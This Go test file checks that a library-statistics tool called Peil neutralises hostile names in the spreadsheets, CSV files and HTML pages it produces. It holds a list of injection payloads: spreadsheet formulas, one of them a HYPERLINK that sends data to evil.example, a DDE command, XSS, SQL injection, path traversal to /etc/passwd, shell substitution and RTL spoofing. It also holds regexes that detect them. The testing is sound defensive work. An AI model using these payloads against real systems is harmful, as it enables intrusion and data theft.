package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// hostile are names that somebody may type into a library system: for a spreadsheet, a
// browser, a shell, a database, or a reader's eye.
var hostile = []string{
	`=HYPERLINK("http://evil.example/"&A1,"x")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1)`, "\t=1+1",
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `]]><x>`, `javascript:alert(1)`, `{{.}}`,
	`'; DROP TABLE members; --`, `"; ATTACH 'x.db'; --`, `../../../etc/passwd`, `$(touch pwned)`, "`touch pwned`", "%s%n",
	"a\u202egnp.exe", "nul\u2028line", strings.Repeat("lang ", 200),
}

// hostileLibrary has such names for branches and subscriptions, each with members enough to
// be published.
func hostileLibrary(t *testing.T) markedLibrary {
	l := makeMarked(t, 300, 600)
	write := func(name string, rows [][]string) {
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		if err := w.WriteAll(rows); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(l.dir, "data", name), b.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	branches, members, loans := [][]string{{"branch", "name"}}, [][]string{{"member_id", "branch", "birth_date", "sex", "postcode", "subscription", "first_registered_on", "last_registered_on"}}, [][]string{{"member_id", "branch", "material", "kind", "loaned_at"}}
	for i, name := range hostile {
		branches = append(branches, []string{name, name})
		for n := range 40 {
			id := "ZQMARKQZ" + strings.Repeat("h", i+1) + strings.Repeat("m", n)
			members = append(members, []string{id, name, "1980-02-23", "F", "2711QX", name, "2024-11-0" + string(rune('1'+n%9)), "2024-11-01"})
			loans = append(loans, []string{id, name, name, name, "2024-12-2" + string(rune('3'+n%6))})
		}
	}
	write("branches.csv", branches)
	write("members.csv", members)
	write("loans.csv", loans)
	config := "version: 1\nlibrary: {name: " + jsonText(hostile[0]+hostile[6]) + ", isil: NL-0823450000}\nsource: {type: file, members: data/members.csv, branches: data/branches.csv, loans: data/loans.csv}\n" +
		"keys: {file: peil.key}\nstore: out\nlimits: {rejected: {fail: 100%}, unmapped: {warn: 100%}}\noutputs: {cbs: {}, new-members: {months: 3}, kb: {}, wsob: {}, quality: {}}\n"
	if err := os.WriteFile(l.made.ConfigPath, []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	return l
}

func jsonText(s string) string { b, _ := json.Marshal(s); return string(b) }

var (
	formulaStart = regexp.MustCompile(`^[=+@\t\r]|^-[^0-9]|^-[0-9]+[^0-9.,]`)
	liveMarkup   = regexp.MustCompile(`(?i)<script>alert|<img src=x|onerror=alert\(1\)>|href="?javascript:`)
	sheetFormula = regexp.MustCompile(`<f[ >]`)
	direction    = "\u202e"
)

// Whatever names a library system holds, no file that Peil makes does anything when it is
// opened, and no name is taken for a path, a statement or a command.
func TestHostileNames(t *testing.T) {
	l := hostileLibrary(t)
	out, err := l.command(t.Context(), t, "run", "--as-of", "2025-01-01", "--plaintext-ok", "--quiet").CombinedOutput()
	if err != nil && !strings.Contains(err.Error(), "exit status 3") && !strings.Contains(err.Error(), "exit status 4") {
		t.Fatalf("peil run: %v\n%s", err, out)
	}
	t.Logf("%s", out)
	seen := map[string]int{}
	err = filepath.WalkDir(filepath.Join(l.dir, "out"), func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		name, _ := filepath.Rel(l.dir, path)
		if info, err := d.Info(); err == nil && info.Mode().Perm() != 0o600 {
			t.Errorf("%s has mode %o", name, info.Mode().Perm())
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		seen[filepath.Ext(name)]++
		switch filepath.Ext(name) {
		case ".html":
			if m := liveMarkup.Find(data); m != nil {
				t.Errorf("%s: %q is live", name, m)
			}
			if bytes.Contains(data, []byte(direction)) {
				t.Errorf("%s turns the direction of what follows", name)
			}
		case ".csv":
			r := csv.NewReader(bytes.NewReader(data))
			r.FieldsPerRecord, r.LazyQuotes = -1, true
			if strings.Contains(name, "private/cbs") {
				r.Comma = ';'
			}
			for line := 1; ; line++ {
				row, err := r.Read()
				if err != nil {
					break
				}
				for _, cell := range row {
					if formulaStart.MatchString(cell) {
						t.Errorf("%s, line %d: a spreadsheet reads %q as a formula", name, line, cell)
					}
				}
			}
		case ".xlsx":
			z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
			if err != nil {
				return err
			}
			for _, f := range z.File {
				part, err := f.Open()
				if err != nil {
					return err
				}
				text, _ := io.ReadAll(part)
				part.Close()
				if strings.HasPrefix(f.Name, "xl/worksheets/") && sheetFormula.Match(text) || strings.HasSuffix(f.Name, ".rels") && bytes.Contains(text, []byte("evil.example")) {
					t.Errorf("%s: %s holds a formula or a link", name, f.Name)
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if seen[".html"] < 3 || seen[".csv"] < 8 || seen[".xlsx"] < 2 {
		t.Errorf("looked at %v: the test would prove nothing", seen)
	}
	if left, _ := filepath.Glob(filepath.Join(l.dir, "*pwned*")); len(left) > 0 {
		t.Errorf("a name was run as a command: %v", left)
	}
	if left, _ := filepath.Glob(filepath.Join(l.dir, "*.db")); len(left) > 0 {
		t.Errorf("a name was run as a statement: %v", left)
	}
}
